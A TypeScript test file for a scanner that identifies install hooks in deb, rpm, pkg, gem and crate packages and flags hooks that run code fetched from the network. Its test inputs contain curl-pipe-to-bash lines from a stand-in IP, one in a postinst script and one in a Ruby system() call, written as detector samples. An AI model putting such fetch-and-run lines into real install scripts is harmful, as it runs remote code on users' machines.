// Scripts that installing runs, by their place in the package, and what is held against one.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { ScriptLanguage } from '../../../src/data/script-languages.ts'
import { fileFamily } from '../../../src/file/detectors/family.ts'
import { installHookOf } from '../../../src/file/detectors/installer/install-hook.ts'
import { packageRunsFetchedCode } from '../../../src/file/detectors/installer/package-runs-fetched-code.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'
import { fileFacts } from '../empty-facts.ts'

const PLACES: Readonly<Record<string, string | null>> = {
  'a.deb/control.tar.xz/control.tar/./postinst': 'deb',
  'a.deb/control.tar.gz/control.tar/preinst': 'deb',
  'a.rpm/postin': 'rpm',
  'a.pkg/Scripts/Scripts/preinstall': 'pkg',
  'a.pkg/b.pkg/Scripts/Scripts/./postinstall': 'pkg',
  'a-1.0.gem/data.tar.gz/data.tar/ext/a/extconf.rb': 'gem',
  'a-1.0.crate/a-1.0/a-1.0/build.rs': 'crate',
  'a.deb/data.tar.xz/data.tar/./usr/share/doc/a/postinst': null,
  'extconf.rb': 'gem',
  'build.rs': 'crate',
  'a.zip/build.rs': null,
  'a.zip/extconf.rb': null,
  'a-1.0.crate/a-1.0/a-1.0/src/lib.rs': null,
}

for (const [path, kind] of Object.entries(PLACES))
  test(`${path}: ${kind ?? 'no hook'}`, () => assert.equal(installHookOf(path), kind))

const strengthOf = (path: string, language: ScriptLanguage, text: string): number | null => {
  const [detector] = fileFamily({ packageRunsFetchedCode })
  const found = detector?.detect(fileFacts({ path, script: readScript(text, language).facts })) ?? null
  return found === null ? null : (found.strength ?? 1)
}

test('a hook that pipes from a bare address into a shell convicts; from a named server it is noted', () => {
  const hook = 'a.deb/control.tar.xz/control.tar/./postinst'
  assert.equal(strengthOf(hook, 'shell', '#!/bin/sh\ncurl -fsSL http://203.0.113.9/d.sh | bash &\n'), 1)
  assert.equal(strengthOf(hook, 'shell', '#!/bin/sh\ncurl -fsSL https://get.vendor.example/i.sh | sh\n'), 0.4)
  assert.equal(
    strengthOf(
      'a.gem/data.tar.gz/data.tar/ext/extconf.rb',
      'ruby',
      'system("curl -s http://203.0.113.9/l.sh | bash &")',
    ),
    1,
  )
})

test('the same script elsewhere, and a hook that only sets up, are nothing', () => {
  assert.equal(strengthOf('a.zip/run.sh', 'shell', '#!/bin/sh\ncurl -fsSL http://203.0.113.9/d.sh | bash &\n'), null)
  const hook = 'a.deb/control.tar.xz/control.tar/./postinst'
  assert.equal(strengthOf(hook, 'shell', '#!/bin/sh\nadduser --system x\nsystemctl enable --now x.timer\n'), null)
})
